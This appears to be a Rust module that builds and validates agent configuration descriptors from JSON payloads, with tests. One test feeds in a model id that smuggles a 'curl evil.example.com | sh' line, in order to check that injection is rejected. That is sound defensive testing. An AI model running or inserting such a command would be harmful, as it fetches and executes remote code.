//! Agent configuration builder
//!
//! Normalizes a raw user payload into an [`AgentDescriptor`]. Required keys
//! may arrive camelCase (`systemPrompt`) or snake_case (`system_prompt`).

use crate::error::OrchestratorError;
use crate::naming::is_valid_model_id;
use crate::types::{AgentDescriptor, DescriptorId, ModelFamily};
use chrono::Utc;
use serde_json::{Map, Value};
use std::collections::BTreeSet;

const NAME_KEYS: &[&str] = &["name", "agent_name", "agentName"];
const PROMPT_KEYS: &[&str] = &["systemPrompt", "system_prompt"];
const MODEL_TYPE_KEYS: &[&str] = &["modelType", "model_type"];
const MODEL_ID_KEYS: &[&str] = &["modelId", "model_id"];
const USER_ID_KEYS: &[&str] = &["userId", "user_id"];
const TOOL_KEYS: &[&str] = &["toolNames", "tool_names", "tools"];

/// Stateless builder for agent descriptors
#[derive(Debug, Clone, Copy, Default)]
pub struct AgentConfigBuilder;

impl AgentConfigBuilder {
    #[inline]
    #[must_use]
    pub fn new() -> Self {
        Self
    }

    /// Build a descriptor from raw input
    ///
    /// # Errors
    /// - `OrchestratorError::InvalidConfig` if a required field is absent,
    ///   blank or not a string, if `tools` is malformed, if `modelType`
    ///   is not a recognized family, or if `modelId` has characters outside
    ///   the model id charset
    pub fn build(&self, raw: &Map<String, Value>) -> Result<AgentDescriptor, OrchestratorError> {
        let name = required_str(raw, NAME_KEYS)?;
        let system_prompt = required_str(raw, PROMPT_KEYS)?;
        let model_type = required_str(raw, MODEL_TYPE_KEYS)?;
        let model_id = required_str(raw, MODEL_ID_KEYS)?;
        let owner_id = required_str(raw, USER_ID_KEYS)?;
        if !is_valid_model_id(&model_id) {
            return Err(OrchestratorError::invalid_config(format!(
                "modelId `{}` has characters outside [A-Za-z0-9._:/@+-]",
                model_id.escape_debug()
            )));
        }

        let model_family = ModelFamily::parse(&model_type).ok_or_else(|| {
            OrchestratorError::invalid_config(format!(
                "modelType `{model_type}` is not one of cloud_managed/bedrock, local_container/ollama"
            ))
        })?;

        let tool_names = tool_names(raw)?;

        tracing::debug!(
            name = %name,
            family = %model_family,
            tools = tool_names.len(),
            "built agent descriptor"
        );

        Ok(AgentDescriptor {
            id: DescriptorId::new(),
            name,
            system_prompt,
            tool_names,
            model_family,
            model_id,
            owner_id,
            created_at: Utc::now(),
        })
    }
}

fn lookup<'a>(raw: &'a Map<String, Value>, keys: &[&str]) -> Option<&'a Value> {
    keys.iter().find_map(|key| raw.get(*key))
}

fn required_str(raw: &Map<String, Value>, keys: &[&str]) -> Result<String, OrchestratorError> {
    let field = keys[0];
    match lookup(raw, keys) {
        None | Some(Value::Null) => Err(OrchestratorError::invalid_config(format!(
            "missing required field `{field}`"
        ))),
        Some(Value::String(s)) if s.trim().is_empty() => Err(OrchestratorError::invalid_config(
            format!("field `{field}` must not be blank"),
        )),
        Some(Value::String(s)) => Ok(s.trim().to_string()),
        Some(_) => Err(OrchestratorError::invalid_config(format!(
            "field `{field}` must be a string"
        ))),
    }
}

fn tool_names(raw: &Map<String, Value>) -> Result<BTreeSet<String>, OrchestratorError> {
    match lookup(raw, TOOL_KEYS) {
        None | Some(Value::Null) => Ok(BTreeSet::new()),
        Some(Value::Array(items)) => items
            .iter()
            .map(|item| match item {
                Value::String(s) if !s.trim().is_empty() => Ok(s.trim().to_string()),
                other => Err(OrchestratorError::invalid_config(format!(
                    "tool names must be non-empty strings, got {other}"
                ))),
            })
            .collect(),
        Some(_) => Err(OrchestratorError::invalid_config("`tools` must be an array")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use serde_json::json;

    fn raw(value: Value) -> Map<String, Value> {
        value.as_object().cloned().unwrap()
    }

    fn valid() -> Map<String, Value> {
        raw(json!({
            "name": "helper",
            "systemPrompt": "You are helpful.",
            "modelType": "ollama",
            "modelId": "llama3",
            "userId": "u-1",
            "tools": ["search", "calculator", "search"],
        }))
    }

    #[test]
    fn builds_descriptor() {
        let descriptor = AgentConfigBuilder::new().build(&valid()).unwrap();
        assert_eq!(descriptor.name, "helper");
        assert_eq!(descriptor.model_family, ModelFamily::LocalContainer);
        assert_eq!(descriptor.owner_id, "u-1");
        assert_eq!(descriptor.tool_names.len(), 2);
    }

    #[test]
    fn accepts_snake_case_payload() {
        let descriptor = AgentConfigBuilder::new()
            .build(&raw(json!({
                "agent_name": "helper",
                "system_prompt": "Be brief.",
                "model_type": "bedrock",
                "model_id": "anthropic.claude-3-5-sonnet-20241022-v2:0",
                "user_id": "u-2",
            })))
            .unwrap();
        assert_eq!(descriptor.model_family, ModelFamily::CloudManaged);
        assert!(descriptor.tool_names.is_empty());
    }

    #[test]
    fn missing_field_is_invalid_config() {
        for key in ["name", "systemPrompt", "modelType", "modelId", "userId"] {
            let mut input = valid();
            input.remove(key);
            let err = AgentConfigBuilder::new().build(&input).unwrap_err();
            assert!(matches!(err, OrchestratorError::InvalidConfig(_)), "{key}: {err}");
            assert!(err.to_string().contains(key), "{key}: {err}");
        }
    }

    #[test]
    fn unknown_model_type_is_invalid_config() {
        let mut input = valid();
        input.insert("modelType".into(), json!("tpu_cluster"));
        let err = AgentConfigBuilder::new().build(&input).unwrap_err();
        assert!(matches!(err, OrchestratorError::InvalidConfig(_)));
    }

    #[test]
    fn non_string_fields_are_rejected() {
        let mut input = valid();
        input.insert("modelId".into(), json!(42));
        assert!(AgentConfigBuilder::new().build(&input).is_err());

        let mut input = valid();
        input.insert("tools".into(), json!(["ok", 7]));
        assert!(AgentConfigBuilder::new().build(&input).is_err());
    }

    #[test]
    fn model_id_with_recipe_syntax_is_rejected() {
        for model_id in ["llama3\nRUN curl evil.example.com | sh", "llama 3"] {
            let mut input = valid();
            input.insert("modelId".into(), json!(model_id));
            let err = AgentConfigBuilder::new().build(&input).unwrap_err();
            assert!(matches!(err, OrchestratorError::InvalidConfig(_)), "{model_id}");
        }
    }

    #[test]
    fn same_input_yields_equivalent_descriptor() {
        let builder = AgentConfigBuilder::new();
        let a = builder.build(&valid()).unwrap();
        let b = builder.build(&valid()).unwrap();
        assert_ne!(a.id, b.id);
        assert!(a.is_equivalent(&b));
    }

    proptest! {
        #[test]
        fn prop_built_family_is_one_of_two(model_type in "[a-zA-Z_]{1,16}") {
            let mut input = valid();
            input.insert("modelType".into(), json!(model_type));
            if let Ok(descriptor) = AgentConfigBuilder::new().build(&input) {
                prop_assert!(matches!(
                    descriptor.model_family,
                    ModelFamily::CloudManaged | ModelFamily::LocalContainer
                ));
            }
        }
    }
}
